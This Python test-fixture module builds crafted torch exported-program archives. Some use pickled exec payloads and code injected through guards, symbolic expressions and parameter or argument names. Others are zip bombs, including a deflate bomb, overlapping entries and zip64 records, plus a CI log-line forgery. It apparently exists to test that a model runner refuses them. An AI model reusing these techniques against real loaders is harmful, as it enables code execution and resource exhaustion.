"""Export archives crafted to run code when torch 2.13 loads them.

Each starts from a real exported program (the tiny-mlp example) and changes the one field that
torch's loader turns into code, so that loading (or calling the loaded module) creates a marker
file. `test_each_crafted_archive_runs_code_in_torch_itself` proves every one works against
torch unguarded; the other tests prove the runner and synth refuse them.
"""

import io
import json
import pickle
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache
from pathlib import Path

import torch

from tests.conftest import REPO_ROOT

BASE = REPO_ROOT / "models" / "examples" / "tiny-mlp.pt2"
BASE_INPUT_SHAPE = (2, 64)


def payload(marker: Path) -> str:
    """Python that proves it ran by creating `marker`."""
    return f"open({str(marker)!r}, 'w').close()"


def payload_expression(marker: Path) -> str:
    """`payload` as an expression with no dots or quotes, to survive name mangling."""
    return f"exec(bytes({list(payload(marker).encode())}))"


class _RunsOnUnpickling:
    def __init__(self, source: str) -> None:
        self.source = source

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return (exec, (self.source,))


def _pickled_payload(marker: Path) -> bytes:
    return pickle.dumps(_RunsOnUnpickling(payload(marker)), protocol=2)


class EditableArchive:
    """A zip's members by name below its root folder, editable, rebuilt into bytes."""

    def __init__(self, data: bytes) -> None:
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            self.members = {info.filename: archive.read(info) for info in archive.infolist()}
        self.root = next(iter(self.members)).split("/", 1)[0] + "/"

    def __getitem__(self, name: str) -> bytes:
        return self.members[self.root + name]

    def __setitem__(self, name: str, data: bytes) -> None:
        self.members[self.root + name] = data

    def edit_json(self, name: str, edit: Callable[[dict[str, object]], object]) -> None:
        document = json.loads(self[name])
        edit(document)
        self[name] = json.dumps(document).encode()

    def bytes(self) -> bytes:
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as archive:
            for name, data in self.members.items():
                archive.writestr(name, data)
        return out.getvalue()


WEIGHTS = "data/weights/model_weights_config.json"
CONSTANTS = "data/constants/model_constants_config.json"
PROGRAM = "models/model.json"
SAMPLE_INPUTS = "data/sample_inputs/model.pt"


def _pickled_weight(archive: EditableArchive, marker: Path) -> None:
    config = json.loads(archive[WEIGHTS])
    entry = config["config"]["0.weight"]
    entry["use_pickle"] = True
    archive["data/weights/" + entry["path_name"]] = _pickled_payload(marker)
    archive[WEIGHTS] = json.dumps(config).encode()


def _constant(prefix: str) -> Callable[[EditableArchive, Path], None]:
    def add(archive: EditableArchive, marker: Path) -> None:
        config = json.loads(archive[CONSTANTS])
        name = f"{prefix}0"
        config["config"]["lookup"] = {
            "path_name": name,
            "is_param": False,
            "use_pickle": True,
            "tensor_meta": None,
        }
        archive["data/constants/" + name] = _pickled_payload(marker)
        archive[CONSTANTS] = json.dumps(config).encode()

    return add


def _pickled_sample_inputs(archive: EditableArchive, marker: Path) -> None:
    """A torch.save zip whose pickle weights_only refuses, so torch retries without it."""
    inner = EditableArchive(archive[SAMPLE_INPUTS])
    inner["data.pkl"] = _pickled_payload(marker)
    archive[SAMPLE_INPUTS] = inner.bytes()


def _quoting_sample_input_key(archive: EditableArchive, marker: Path) -> None:
    """A dict key torch copies, quoted, into the guard code it generates and execs."""
    key = f"+{payload_expression(marker)}+''+"
    buffer = io.BytesIO()
    torch.save((({key: torch.randn(*BASE_INPUT_SHAPE)},), {}), buffer)
    archive[SAMPLE_INPUTS] = buffer.getvalue()


def _guard(archive: EditableArchive, marker: Path) -> None:
    guard = payload(marker).replace("'", '"') + " is None"
    archive.edit_json(PROGRAM, lambda program: _append(program["guards_code"], guard))


def _quoting_guard(archive: EditableArchive, marker: Path) -> None:
    guard = f"1 == 1 or L[\"+{payload_expression(marker)}+''+\"].size()[0] == 2"
    archive.edit_json(PROGRAM, lambda program: _append(program["guards_code"], guard))


def _append(items: object, item: str) -> None:
    assert isinstance(items, list)
    items.append(item)


def _symbolic_expression(archive: EditableArchive, marker: Path) -> None:
    def edit(program: dict[str, object]) -> None:
        values = program["graph_module"]["graph"]["tensor_values"]  # type: ignore[index]
        size = next(v["sizes"][0] for v in values.values() if "as_expr" in v["sizes"][0])
        size["as_expr"]["expr_str"] = (
            f"exec({payload(marker)!r}) or Symbol('s31', positive=True, integer=True)"
        )

    archive.edit_json(PROGRAM, edit)


def _attribute_name(archive: EditableArchive, marker: Path) -> None:
    """A parameter name torch pastes into generated code as getattr(self, "<name>")."""
    name = f'0", {payload_expression(marker)}) or getattr(self, "0.weight'

    def edit(program: dict[str, object]) -> None:
        spec = program["graph_module"]["signature"]["input_specs"][0]  # type: ignore[index]
        spec["parameter"]["parameter_name"] = name

    archive.edit_json(PROGRAM, edit)
    config = json.loads(archive[WEIGHTS])
    config["config"][name] = config["config"].pop("0.weight")
    archive[WEIGHTS] = json.dumps(config).encode()


def _argument_name(archive: EditableArchive, marker: Path) -> None:
    """An argument name torch pastes into `def forward(self, <names>)`."""

    def edit(program: dict[str, object]) -> None:
        call = program["graph_module"]["module_call_graph"][0]  # type: ignore[index]
        call["signature"]["forward_arg_names"] = [f"input={payload_expression(marker)}"]

    archive.edit_json(PROGRAM, edit)


@dataclass(frozen=True)
class Attack:
    """One crafted archive: how to build it, whether unguarded torch really runs its payload
    (the argument-name attack only gets its text into generated code), and the refusal."""

    name: str
    craft: Callable[[EditableArchive, Path], None]
    refusal: str
    runs_in_torch: bool = True

    def build(self, marker: Path) -> bytes:
        archive = EditableArchive(BASE.read_bytes())
        self.craft(archive, marker)
        return archive.bytes()


ATTACKS = (
    Attack("pickled-weight", _pickled_weight, r"weight '0\.weight' is stored pickled"),
    Attack("pickled-constant", _constant("tensor_"), "constant 'lookup' is stored pickled"),
    Attack("custom-object", _constant("custom_obj_"), "TorchScript custom object", False),
    Attack("opaque-object", _constant("opaque_obj_"), "opaque Python object"),
    Attack("pickled-sample-inputs", _pickled_sample_inputs, r"refers to __builtin__\.exec"),
    Attack("sample-input-key", _quoting_sample_input_key, "holds the string"),
    Attack("guard", _guard, r"guards_code\[0\] is not a comparison"),
    Attack("quoting-guard", _quoting_guard, r"guards_code\[0\] is not a comparison"),
    Attack("symbolic-expression", _symbolic_expression, "is not a symbolic shape expression"),
    Attack("attribute-name", _attribute_name, "is not a dotted attribute name"),
    Attack("argument-name", _argument_name, "is not a Python name", False),
)


# Containers crafted to exhaust whoever reads them: each starts from the same real program
# and changes only what its attack needs, so the refusal it gets is that attack's.

INFLATED_PROGRAM_BYTES = 256 << 20
"""The reported bomb: a 255 KB archive whose model.json inflates to 256 MiB."""


def _stream_deflated(
    archive: zipfile.ZipFile, name: str, parts: tuple[bytes, bytes, bytes], size: int
) -> None:
    """Write a head, a filler repeated, and a tail, `size` bytes in all, deflated a MiB at a
    time."""
    head, filler, tail = parts
    chunk = filler * ((1 << 20) // len(filler))
    chunks, rest = divmod(size - len(head) - len(tail), len(chunk))
    info = zipfile.ZipInfo(name)
    info.compress_type = zipfile.ZIP_DEFLATED
    with archive.open(info, "w") as member:
        member.write(head)
        for _ in range(chunks):
            member.write(chunk)
        member.write(filler * (rest // len(filler)) + b" " * (rest % len(filler)) + tail)


def rezipped(
    source: EditableArchive, deflated: str, parts: tuple[bytes, bytes, bytes], size: int
) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, data in source.members.items():
            if name == source.root + deflated:
                _stream_deflated(archive, name, parts, size)
            else:
                archive.writestr(name, data)
    return out.getvalue()


@cache
def inflating_program() -> bytes:
    """model.json, still the program's JSON, with a list of 89 million empty lists added:
    256 MiB deflated to 255 KB, which json.loads would make 6 GiB of Python objects."""
    archive = EditableArchive(BASE.read_bytes())
    program = archive[PROGRAM].rstrip()
    parts = (program[:-1] + b', "padding": [', b"[],", b"[]]}")
    return rezipped(archive, PROGRAM, parts, INFLATED_PROGRAM_BYTES)


def inflating_sample_inputs() -> bytes:
    """A nested bomb: the stored archive is honest, its torch.save zip of sample inputs
    inflates its pickle to 64 MiB."""
    archive = EditableArchive(BASE.read_bytes())
    inner = EditableArchive(archive[SAMPLE_INPUTS])
    parts = (inner["data.pkl"], b"\0", b"")
    archive[SAMPLE_INPUTS] = rezipped(inner, "data.pkl", parts, 64 << 20)
    return archive.bytes()


_CENTRAL = struct.Struct("<4s6H3L5H2L")
_END = struct.Struct("<4s4H2LH")


@dataclass
class DirectoryEntry:
    """One central directory entry: its fixed fields (as _CENTRAL unpacks them) and name."""

    fields: list[object]
    name: bytes
    tail: bytes
    """Its extra field and comment, as they were."""

    def bytes(self) -> bytes:
        fields = [*self.fields[:10], len(self.name), *self.fields[11:]]
        return _CENTRAL.pack(*fields) + self.name + self.tail


def central_directory(data: bytes) -> tuple[bytes, list[DirectoryEntry]]:
    """The bytes before a zip's central directory, and its entries."""
    end = data.rindex(b"PK\x05\x06")
    *_, count, _, offset, _ = _END.unpack_from(data, end)
    entries, at = [], offset
    for _ in range(count):
        fields = list(_CENTRAL.unpack_from(data, at))
        name_length, extra_length, comment_length = fields[10:13]
        start = at + _CENTRAL.size
        name = data[start : start + name_length]
        tail = data[start + name_length : start + name_length + extra_length + comment_length]
        entries.append(DirectoryEntry(fields, name, tail))
        at = start + name_length + extra_length + comment_length
    return data[:offset], entries


def with_central_directory(
    prefix: bytes, entries: list[DirectoryEntry], end: bytes | None = None
) -> bytes:
    directory = b"".join(entry.bytes() for entry in entries)
    count = min(len(entries), 0xFFFF)
    end = end or _END.pack(b"PK\x05\x06", 0, 0, count, count, len(directory), len(prefix), 0)
    return prefix + directory + end


def overlapping_members(copies: int = 1000) -> bytes:
    """A thousand directory entries for the one model.json (a non-recursive bomb: each
    reads the same bytes), named as extra files, which torch reads whole."""
    prefix, entries = central_directory(BASE.read_bytes())
    program = next(entry for entry in entries if entry.name.endswith(PROGRAM.encode()))
    root = program.name.split(b"/", 1)[0]
    copied = [
        DirectoryEntry(list(program.fields), root + b"/extra/copy%d.json" % n, program.tail)
        for n in range(copies)
    ]
    return with_central_directory(prefix, entries + copied)


def sizes_that_disagree() -> bytes:
    """A stored model.json whose directory entry claims it inflates to 4 GiB."""
    prefix, entries = central_directory(BASE.read_bytes())
    program = next(entry for entry in entries if entry.name.endswith(PROGRAM.encode()))
    program.fields[9] = 0xFFFFFFFE
    return with_central_directory(prefix, entries)


def zip64_end_claiming(entries: int, directory_bytes: int) -> bytes:
    """A zip64 end record that announces `entries` members in a directory of
    `directory_bytes`, which zipfile would read whole before anything could count them."""
    prefix, listed = central_directory(BASE.read_bytes())
    directory = b"".join(entry.bytes() for entry in listed)
    record_at = len(prefix) + len(directory)
    record = struct.pack(
        "<4sQ2H2L4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, entries, entries, directory_bytes,
        len(prefix),
    )  # fmt: skip
    locator = struct.pack("<4sLQL", b"PK\x06\x07", 0, record_at, 1)
    end = _END.pack(b"PK\x05\x06", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)
    return with_central_directory(prefix, listed, record + locator + end)


def with_member(name: str, data: bytes = b"") -> bytes:
    """The base archive with one more member, stored as torch stores them."""
    archive = EditableArchive(BASE.read_bytes())
    archive[name] = data
    return archive.bytes()


@dataclass(frozen=True)
class Bomb:
    """A container built to exhaust its reader's memory or time, and the refusal it gets."""

    name: str
    build: Callable[[], bytes]
    refusal: str
    committable: bool = True
    """Whether it fits the 1 MiB a committed model may have (else only a url or image_path
    model can be it, and the runner's check alone meets it)."""


BOMBS = (
    Bomb("inflating-program", inflating_program, r"member \S+/models/model\.json is compressed"),
    Bomb(
        "inflating-sample-inputs",
        inflating_sample_inputs,
        r"data/sample_inputs/model\.pt, a torch\.save zip: member \S+ is compressed",
    ),
    Bomb("overlapping-members", overlapping_members, r"claim [\d,]+ bytes in a file of [\d,]+"),
    Bomb("sizes-that-disagree", sizes_that_disagree, "header gives two sizes"),
    Bomb(
        "zip64-many-members",
        lambda: zip64_end_claiming(10**9, 1 << 20),
        "its directory lists 1,000,000,000 members, more than 65,535",
    ),
    Bomb(
        "zip64-huge-directory",
        lambda: zip64_end_claiming(40, 1 << 40),
        r"its directory is 1,099,511,627,776 bytes",
    ),
    Bomb(
        "huge-name",
        lambda: with_member("extra/" + "n" * 60_000),
        "a member's name is 60,0[0-9]{2} characters long, more than 512",
    ),
    Bomb(
        "name-forging-a-line",
        lambda: with_member("extra/x\n::error file=specs/clusters.yaml::forged"),
        r"name holds U\+000A LINE FEED",
    ),
    Bomb(
        "large-extra-text",
        lambda: with_member("extra/notes.txt", b"n" * (2 << 20)),
        r"extra/notes\.txt is 2,097,152 bytes, more than the 1,048,576 allowed",
        committable=False,
    ),
)
"""Every member of the class: inflation (direct and nested), overlapping entries, sizes that
disagree, counts and directories announced by a zip64 end record, huge and line-breaking
names, and text torch reads whole."""
